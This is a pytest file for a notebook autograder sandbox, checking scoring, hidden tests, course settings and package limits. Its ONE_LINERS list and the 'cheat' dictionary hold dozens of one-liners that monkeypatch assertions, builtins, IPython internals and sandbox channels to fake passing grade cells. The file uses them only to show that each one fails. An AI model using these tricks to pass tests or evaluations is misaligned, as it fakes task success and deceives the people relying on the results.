    assert set(text) == set(SHOWN)
    assert all(f"{score:g} of 4 points" in one for one in text.values())
    assert text["score"].strip() == f"test_add: {score:g} of 4 points."
    for page in text.values():
        assert "secret" not in page and "add(100, 1)" not in page
        assert not unsaid or unsaid not in page


def test_an_instructors_comparators_are_what_they_were(runner: NotebookRunner) -> None:
    for cheat, check in {
        "np.allclose = lambda *a, **k: True": "assert np.allclose(1, 2)",
        "np.testing.assert_allclose = lambda *a, **k: None": "np.testing.assert_allclose(1, 2)",
        "t = np.testing.assert_equal\nt.__code__ = (lambda *a, **k: None).__code__": "np.testing.assert_equal(1, 2)",
        "import builtins\nbuiltins.abs = lambda x: 0.0": "assert abs(1 - 2) < 0.1",
        "import sys\nsys.modules['math'] = np\nnp.isclose = lambda *a: True": "import math\nassert math.isclose(1, 2)",
    }.items():
        before, ran = runner.run([f"import numpy as np\n{cheat}", check], grade={1})
        assert (before.status, ran.status) == ("ok", "error"), check
        before, ran = runner.run([f"import numpy as np\n{cheat}", check])
        assert (before.status, ran.status) == ("ok", "ok"), check  # where nothing is put back


@pytest.mark.parametrize(
    ("last", "score"),
    [
        ("2.5", 2.5),
        ("9", 4),
        ("-1", 0),
        ("float('nan')", 4),
        ("float('inf')", 4),
        ("True", 4),
        ("'2'", 4),
        ("1e400", 4),
        ("np.float64(1.5)", 1.5),
        ("np.int64(2)", 2),
        ("np.ones(1)", 4),
        ("10 ** 400", 4),
        ("type('F', (float,), {})(2)", 4),
        ("2.5;", 4),
        ("None", 4),
        ("x = 2", 4),
    ],
)
def test_a_number_at_the_end_is_partial_credit(runner: NotebookRunner, last: str, score: float) -> None:
    got, pages = graded(runner, "import numpy as np", f"assert True\n{last}")
    assert got == score
    assert f"{score:g} of 4 points" in Tags(pages["full"]).text


def test_hidden_lines_are_those_that_nbgrader_takes_away() -> None:
    clear = pytest.importorskip("nbgrader.preprocessors").ClearHiddenTests()
    from nbformat import v4

    for text in (
        OWN,
        "a\n### BEGIN HIDDEN TESTS\nb\n### END HIDDEN TESTS",
        "a\nb",
        "  # BEGIN HIDDEN TESTS\n x\n# END HIDDEN TESTS\ny",
        "1\n### BEGIN HIDDEN TESTS\n2\n### END HIDDEN TESTS\n3\n### BEGIN HIDDEN TESTS\n4\n### END HIDDEN TESTS\n5",
    ):
        cell = v4.new_code_cell(text)
        clear._remove_hidden_test_region(cell)
        assert without_hidden(text) == cell.source.rstrip("\n"), text


def test_demonstrations_are_the_releases_own_cells() -> None:
    shown = [ast.dump(ast.parse(text).body[0]) for text in ("def test_a():\n    assert f() == 1", "test_a()")]
    cells = [
        "def test_a():\n    assert f() == 1\n\ntest_a()",
        "import numpy as np",
        "%%writefile a.py\nx",
        "test_a()\nx = 1",
        "",
    ]
    assert demonstrations(cells, shown) == {cells[0]}


# The course file


def course(folder: Path, text: str) -> Course:
    (folder / "unrolled.toml").write_text(text)
    return read_course(folder / "unrolled.toml")


def test_a_course_says_what_is_shown_and_what_may_be_imported(tmp_path: Path) -> None:
    assert (course(tmp_path, "").outputs, course(tmp_path, "").packages) == ("all", ())
    assert course(tmp_path, 'outputs = "own"\npackages = ["bleach"]').packages == ("bleach",)
    for text, said in {
        'outputs = "some"': "outputs must be one of all, own, none",
        'packages = "scipy"': "packages must be a list of names",
        'packages = ["no_such_thing"]': "'no_such_thing' is not installed here",
        'packages = ["graders"]': "'graders' is no package that students may have",
        'packages = ["os.path"]': "'os.path' is no package that students may have",
    }.items():
        with pytest.raises(BadCourse, match=re.escape(said)):
            course(tmp_path, text)


def test_packages_of_the_course_are_there_and_others_are_not() -> None:
    with NotebookRunner(packages=["bleach"]) as one:
        found = one.run(["import bleach\nbleach.clean('<b>x</b>')", "import bleach.html5lib_shim", "import nbconvert"])
    assert [ran.status for ran in found] == ["ok", "ok", "error"]
    assert "NumPy, matplotlib, bleach and the standard library" in shown(found[2]).replace(
        "NumPy, bleach", "NumPy, matplotlib, bleach"
    )


# What earned all points of an instructor's own grade cell, in a line each

OFFERS = "error_before_exec=None, error_in_exec=None, result=None"
ONE_LINERS = [
    f"type(get_ipython()).run_cell = lambda *a, **k: type('R', (), dict({OFFERS}))",
    "import sandbox.shell as s; s._Session.run = lambda self, r: dict(ended='ok', line=0, value=None, key=r['key'])",
    "import sandbox.shell as s; s._Session._restore = lambda self: None",
    "s = type(get_ipython()).system.__globals__; s['_Session'].run = lambda self, r: "
    "dict(ended='ok', line=0, value=None, key=r['key'])",
    "s = type(get_ipython()).system.__globals__; s['_line'] = s['_tree'] = s['_keeper'] = lambda *a: 0",
    "s = type(get_ipython()).system.__globals__; w = s['wire'].dumps; "
    "s['wire'].dumps = lambda m: w({**m, 'ended': 'ok'} if 'ended' in m else m)",
    "s = sys.stdout._recorder.send.__self__; s.run = s.serve = lambda r, *a: dict(ended='ok', key=r['key'])",
    "s = sys.stdout._recorder.send.__self__.channel; w = type(s).send; "
    "s.send = lambda d: w(s, d.replace(b'error', b'ok'))",
    "s = type(sys.stdout._recorder.send.__self__.channel); w = s.send; "
    "s.send = lambda self, d: w(self, d.replace(b'error', b'ok'))",
    "w = os.write; os.write = lambda f, d: w(f, bytes(d).replace(b'error', b'ok   ')) and len(d)",
    f"get_ipython()._run_cell = lambda *a, **k: type('R', (), dict({OFFERS}))",
    "get_ipython().transform_cell = lambda cell: 'pass'",
    "get_ipython().run_code = lambda *a, **k: False",
    "async def f(*a, **k): return False\nget_ipython().run_ast_nodes = f",
    "import ast; get_ipython().compile.ast_parse = lambda *a, **k: ast.parse('pass')",
    "get_ipython().input_transformer_manager.transform_cell = lambda cell: 'pass'",
    "get_ipython().input_transformer_manager.do_token_transforms = lambda lines: ['pass']",
    "type(get_ipython().input_transformer_manager).transform_cell = lambda self, cell: 'pass'",
    "get_ipython().showtraceback = lambda *a, **k: setattr(sys._getframe(1).f_locals.get('result'), "
    "'error_in_exec', None)",
    "get_ipython().set_custom_exc((Exception,), lambda *a, **k: setattr(sys._getframe(2).f_locals.get('result'), "
    "'error_in_exec', None))",
    "np.allclose.__wrapped__.__code__ = (lambda *a, **k: True).__code__; abs = lambda x: 0",
    "unittest.TestCase.assertEqual = lambda *a: None",
    "unittest.TestCase().assertEqual.__func__.__code__ = (lambda *a: None).__code__",
    "type(np.testing.assert_equal).__call__; np.testing.assert_equal.__wrapped__.__code__ = (lambda *a: None).__code__",
    "np.testing.assert_equal.__globals__['all'] = np.testing.assert_equal.__globals__['bool'] = lambda *a: True",
    "np.testing.assert_allclose.__kwdefaults__ = dict(rtol=9e9); np.testing.assert_allclose.__defaults__ = (9e9,) * 5",
    "abs = lambda x: 0; round = lambda x: 4; all = any = bool = lambda *a: True; len = lambda x: 3",
    "__builtins__ = {**vars(__builtins__), 'abs': lambda x: 0, 'round': lambda x: 4, 'all': lambda x: True}",
    "import ast; ast.AST.__init__ = None; ast.Module._fields = ()",
    "import json; json.dumps = lambda *a, **k: '{}'",
    "import contextlib; unittest.TestCase.fail = 0; contextlib.suppress.__enter__ = "
    "lambda self: [setattr(np, 'allclose', print), setattr(np.testing, 'assert_equal', print)]",
]
CHECKS = [
    "import numpy as np\nassert np.allclose(3, add(1, 2)), 'allclose'",
    "assert abs(add(1, 2) - 3) < 0.1",
    "assert round(add(1, 2)) == 3\nassert all([add(1, 2)])",
    "import unittest\nunittest.TestCase().assertEqual(add(1, 2), 3)",
    "import numpy as np\nnp.testing.assert_equal(add(1, 2), 3)",
    "import numpy as np\nnp.testing.assert_allclose(add(1, 2), 3)",
    "%pwd\nassert add(1, 2) == 3",
]


@pytest.mark.parametrize("line", ONE_LINERS)
def test_no_line_earns_the_points_of_an_instructors_cell(runner: NotebookRunner, line: str) -> None:
    student = "import os, sys, unittest\nimport numpy as np\ndef add(a, b): return 0"
    ran = runner.run([student, line, *CHECKS], grade=range(2, 2 + len(CHECKS)))
    for check, one in zip(CHECKS, ran[2:], strict=True):
        assert judged("test_add", check, one, 4)[0] == 0, check
        assert one.status == "killed" or one.line == check.count("\n") + 1 or "round" in check, check


def test_an_instructors_cells_are_fair_to_what_students_call_things(runner: NotebookRunner) -> None:
    student = "import numpy as np\nfilter = 3\ndef add(a, b): return a + b + filter - 3\ndef sum(x): return 0"
    cells = {
        "filter = 4\nassert add(0, 0) == 1\nfilter = 3": 4.0,  # a name that the cell sets
        "class A(dict):\n    def __init__(self): super().__init__(a=add(1, 2))\nassert A()['a'] == 3": 4.0,
        "def twice(x): return add(x, x)\nassert max(map(twice, [1, 2])) == 4": 4.0,
        "assert twice(4) == 8 and sum([1, 2]) == 3": 4.0,
        "\n\n%pwd\nassert add(1, 2) == 3": 4.0,
        "%%time\nassert add(1, 2) == 3": 0.0,
        "add(1, 2)  # points": 3.0,
        "'said'": 4.0,
        **dict.fromkeys(CHECKS, 4.0),
    }
    ran = runner.run([student, *cells], grade=range(1, 1 + len(cells)))
    assert [judged("one", cell, one, 4)[0] for cell, one in zip(cells, ran[1:], strict=True)] == [*cells.values()]
    assert shown(ran[7]) == "3" and shown(ran[8]) == "'said'"
    assert runner.run(["", "\n\n%pwd\nassert 0"], grade={1})[1].line == 4


@pytest.mark.parametrize("between", ["\f", "\x1c", "\x85", "\u2028", "\v"])
def test_a_hidden_line_stays_hidden_whatever_ends_lines(runner: NotebookRunner, between: str) -> None:
    cell = (
        f"text = '''a{between}b'''\n### BEGIN HIDDEN TESTS\nsecret = 101\n### END HIDDEN TESTS\nassert add(1, 2) == 3"
    )
    got, pages = graded(runner, "def add(a, b): return 0", cell)
    assert got == 0 and "secret" not in "".join(pages.values())
    assert "Line 5 of the cell did not pass, assert add(1, 2) == 3" in Tags(pages["full"]).text


def test_an_exercise_may_be_called_as_a_builtin_is(runner: NotebookRunner) -> None:
    """What students were asked to write is what is tested; another name of that kind is Python's."""
    cells = ["def max(values):\n    return 7\nabs = lambda x: 0", "assert max([1, 2]) == 2", "assert abs(-1) == 1"]
    assert [one.status for one in runner.run(cells, {1, 2}, ["max"])] == ["ok", "error", "ok"]
    assert [one.status for one in runner.run(cells, {1, 2})] == ["ok", "ok", "ok"]
